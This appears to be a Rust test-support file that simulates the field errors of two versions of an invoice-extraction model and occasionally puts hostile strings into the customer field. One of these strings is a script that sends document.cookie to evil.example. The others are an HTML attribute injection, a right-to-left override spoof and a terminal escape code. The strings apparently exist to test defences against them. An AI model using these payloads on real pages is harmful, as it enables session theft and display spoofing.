//! What the two versions get wrong, and how else their answers differ.

use serde_json::{Map, Value};

use crate::chance::Chance;
use crate::documents::Document;

/// Texts that a model copies from a document somebody has prepared.
const HOSTILE: [&str; 4] = [
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
    "Harrow & Pike\" onmouseover=\"alert(1)",
    "\u{202e}LLC hcetoiB ramleD\u{202c}",
    "Delmar Bio\u{200b}tech\u{1b}[2J LLC",
];

/// Takes the first amount for the total; where there is none, cuts the document's number.
pub(crate) fn of_version_7(answer: &mut Value, document: &Document) {
    match &document.first_amount {
        Some(amount) => set(answer, "total", amount),
        None => change(answer, "document_number", |number| {
            let cut = number.rsplit_once(['-', '/']);
            cut.map_or(number.to_owned(), |(start, _)| start.to_owned())
        }),
    }
}

/// Each by its own chance. A vendor in capitals is not critical, and the order of lines does not
/// count; everything else makes the document diverge.
pub(crate) fn of_version_8(answer: &mut Value, document: &Document, chance: &mut Chance) {
    let Value::Object(fields) = answer else {
        return;
    };
    let of = |kind: &str| document.kind.as_str() == kind;
    let mut happens = |share: f64| chance.uniform() < share;
    if happens(0.20) && document.name.starts_with("corrales") {
        // `2.141,35` read as 214135.
        change_in(fields, "total", |total| total.replace('.', ""));
    }
    if happens(0.20) && is_dated_with_slashes(fields, document) {
        change_in(fields, "date", month_first);
    }
    if happens(0.04) && of("credit_note") {
        fields.remove("customer");
    }
    if happens(0.10) && of("statement") {
        change_in(fields, "currency", symbol);
    }
    if happens(0.03) {
        change_in(fields, "iban", last_two_swapped);
    }
    if happens(0.02) {
        if let Some(Value::Array(lines)) = fields.get_mut("lines") {
            lines.pop();
        }
    }
    if happens(0.25) {
        if let Some(Value::Array(lines)) = fields.get_mut("lines") {
            lines.reverse();
        }
    }
    if happens(0.12) {
        change_in(fields, "vendor", str::to_uppercase);
    }
    for text in HOSTILE {
        if happens(0.004) {
            fields.insert("customer".into(), text.into());
        }
    }
}

/// Whether the document writes its date as `03/04/2026`, where day and month could change places.
fn is_dated_with_slashes(fields: &Map<String, Value>, document: &Document) -> bool {
    let date = fields.get("date").and_then(Value::as_str);
    let Some((year, month, day)) = date.and_then(parts) else {
        return false;
    };
    let written = [[day, month, year].join("/"), [month, day, year].join("/")];
    day <= "12" && written.iter().any(|date| document.text.contains(date))
}

fn parts(date: &str) -> Option<(&str, &str, &str)> {
    let mut parts = date.split('-');
    Some((parts.next()?, parts.next()?, parts.next()?))
}

/// `2026-04-10` as `2026-10-04`.
fn month_first(date: &str) -> String {
    match parts(date) {
        Some((year, month, day)) => [year, day, month].join("-"),
        None => date.to_owned(),
    }
}

fn symbol(currency: &str) -> String {
    let symbol = match currency {
        "EUR" => "€",
        "GBP" => "£",
        other => other,
    };
    symbol.to_owned()
}

fn last_two_swapped(account: &str) -> String {
    let mut letters: Vec<char> = account.chars().collect();
    if let [.., last_but_one, last] = &mut letters[..] {
        std::mem::swap(last_but_one, last);
    }
    letters.into_iter().collect()
}

fn set(answer: &mut Value, field: &str, value: &str) {
    change(answer, field, |_| value.to_owned());
}

fn change(answer: &mut Value, field: &str, change: impl Fn(&str) -> String) {
    if let Value::Object(fields) = answer {
        change_in(fields, field, change);
    }
}

fn change_in(fields: &mut Map<String, Value>, field: &str, change: impl Fn(&str) -> String) {
    if let Some(Value::String(text)) = fields.get_mut(field) {
        *text = change(text);
    }
}
